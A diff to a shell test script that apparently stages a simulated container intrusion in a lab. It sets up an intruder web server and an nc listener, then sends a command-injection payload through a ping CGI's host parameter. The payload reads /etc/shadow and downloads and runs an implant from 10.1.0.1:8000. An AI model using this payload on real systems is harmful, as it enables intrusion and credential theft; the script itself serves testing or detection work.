@@ -70,17 +70,21 @@ wait_for() {
 start_intruder() {
 	mkdir -p /srv/intruder
 	cp "$here/implant" /srv/intruder/x
-	httpd -p 10.1.0.1:8000 -h /srv/intruder
-	nc -l -p 4444 >"$out/loot.txt" 2>/dev/null </dev/null &
+	/bin/httpd -p 10.1.0.1:8000 -h /srv/intruder
+	/bin/nc -l -p 4444 >"$out/loot.txt" 2>/dev/null </dev/null &
 	listener=$!
 	wait_for "listener on port 4444" sh -c 'netstat -ltn | grep -q :4444'
 }
 
 # not wget -T, with which Debian's busybox crashes
-request() { timeout 20 wget -q -O - "http://10.1.0.2/$1"; }
+request() { timeout 20 /bin/wget -q -O - "http://10.1.0.2/$1"; }
 
 # an URL has no blanks and no semicolons
 quote() { echo "$1" | sed 's/ /%20/g; s/;/%3B/g; s/&/%26/g; s/>/%3E/g; s/+/%2B/g'; }
+
+# paths, because busybox runs its own commands without a program of their name in between
+injected='127.0.0.1; /bin/sh -c "/bin/id; /bin/cat /etc/shadow; /bin/wget -q -O /tmp/.x http://10.1.0.1:8000/x; '
+injected=$injected'/bin/chmod +x /tmp/.x; /tmp/.x >/dev/null 2>&1 &"'
 
 make_bundle
 say "container web of pod shop/shop-web-7d4b9c6f5-x2x8q starts"
@@ -90,7 +94,7 @@ start_intruder
 say "a visitor asks for a ping"
 request 'cgi-bin/ping?host=127.0.0.1' >/dev/null
 say "the intruder injects a command"
-request "cgi-bin/ping?host=$(quote '127.0.0.1; sh -c "id; cat /etc/shadow; wget -q -O /tmp/.x http://10.1.0.1:8000/x; chmod +x /tmp/.x; /tmp/.x >/dev/null 2>&1 &"')" \
+request "cgi-bin/ping?host=$(quote "$injected")" \
 	>"$out/answer.txt"
 grep -q notarealhash "$out/answer.txt" || { say "the intruder did not get the shadow file"; exit 1; }
 wait_for "call from the implant" grep -q 'waiting for orders' "$out/loot.txt"
@@ -99,7 +103,7 @@ say "the container is killed, and deleted with all its files"
 crun --root "$state" kill "$id" KILL
 wait_for "end of the container" sh -c "crun --root $state state $id | grep -q stopped"
 crun --root "$state" delete --force "$id"
-rm -rf "$bundle"
+/bin/rm -rf "$bundle"
 kill "$listener" 2>/dev/null || :
 rmdir "/sys/fs/cgroup/kubepods/besteffort/pod$pod_uid" /sys/fs/cgroup/kubepods/besteffort \
 	/sys/fs/cgroup/kubepods 2>/dev/null || :
